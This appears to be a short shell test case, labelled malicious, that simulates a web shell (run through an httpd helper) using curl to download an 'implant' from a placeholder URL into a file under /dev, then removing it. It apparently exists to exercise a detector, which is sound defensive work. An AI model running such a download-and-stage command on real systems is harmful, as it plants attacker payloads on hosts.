#!/bin/sh
# malicious: a web shell stashes a payload as a file under /dev
. "$(dirname "$0")/../../lib.sh"
$B/httpd "curl -s -o /dev/quell-jlive-shm $URL/implant; rm -f /dev/quell-jlive-shm"
rm -f /dev/quell-jlive-shm
